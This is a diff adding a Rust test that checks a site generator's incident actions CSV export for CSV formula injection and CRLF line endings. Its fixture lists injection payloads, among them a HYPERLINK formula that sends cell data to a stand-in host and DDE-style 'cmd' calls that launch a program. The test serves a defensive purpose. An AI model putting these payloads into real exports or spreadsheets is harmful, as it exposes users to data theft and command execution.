@@ -101,3 +101,89 @@ fn allowed_site_yaml_urls_and_colours_still_build() {
         assert!(html.contains(expected), "no {expected} in:\n{html}");
     }
 }
+
+/// Action texts, owners and a title that a spreadsheet would run as formulas.
+const FORMULAS: [&str; 8] = [
+    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+3",
+    "  =1+4",
+    "Plain, with \"quotes\" and a comma",
+];
+
+#[test]
+fn actions_csv_defuses_formula_cells_and_ends_lines_with_crlf() {
+    let site = Site::new();
+    site.page(
+        "incidents/_index.md",
+        "title: Incident reports\nkind: incident\n",
+        "",
+    );
+    let yaml = |s: &str| serde_json::to_string(s).unwrap(); // a JSON string is a YAML one
+    let actions: String = FORMULAS
+        .iter()
+        .enumerate()
+        .map(|(i, f)| {
+            format!(
+                "  - {{action: {}, owner: {}, due: 2026-0{}-01, status: open}}\n",
+                yaml(f),
+                yaml(FORMULAS[(i + 1) % FORMULAS.len()]),
+                i + 1
+            )
+        })
+        .collect();
+    site.page(
+        "incidents/a.md",
+        &format!(
+            "title: {}\ndate: 2024-03-12\nstatus: resolved\nseverity: P1\n\
+             started: 2024-03-12T09:14:00+00:00\ndetected: 2024-03-12T09:41:00+00:00\n\
+             resolved: 2024-03-12T13:02:00+00:00\nimpact: x\nactions:\n{actions}",
+            yaml("=1+1")
+        ),
+        "## What could have gone better\n\nSpeed.\n",
+    );
+    site.build().assert_ok();
+    let text = site.read("actions.csv");
+
+    // RFC 4180 line endings: every record ends with CRLF, and no bare LF anywhere.
+    assert!(text.ends_with("\r\n"), "{text:?}");
+    assert!(
+        !text.replace("\r\n", "").contains('\n'),
+        "a bare LF: {text:?}"
+    );
+
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), FORMULAS.len(), "{text:?}");
+    assert_eq!(text.matches("\r\n").count(), FORMULAS.len() + 1, "{text:?}");
+    let defused = |written: &str| {
+        let risky = written.starts_with(['\t', '\r'])
+            || written.trim_start().starts_with(['=', '+', '-', '@']);
+        if risky {
+            format!("'{written}")
+        } else {
+            written.to_string()
+        }
+    };
+    for row in &rows {
+        assert_eq!(&row[1], "'=1+1", "the title: {row:?}");
+        // Each cell as written (daylight trims owners), with a quote in front when a
+        // spreadsheet would run it.
+        let is = |cell: &str, f: &str| cell == defused(f) || cell == defused(f.trim());
+        let i = FORMULAS
+            .iter()
+            .position(|f| is(&row[4], f))
+            .unwrap_or_else(|| panic!("action {:?} is not one written, defused", &row[4]));
+        assert!(is(&row[5], FORMULAS[(i + 1) % FORMULAS.len()]), "{row:?}");
+        for cell in row.iter() {
+            assert!(
+                !cell.trim_start().starts_with(['=', '+', '-', '@'])
+                    && !cell.starts_with(['\t', '\r']),
+                "a live formula cell {cell:?} in {row:?}"
+            );
+        }
+    }
+}
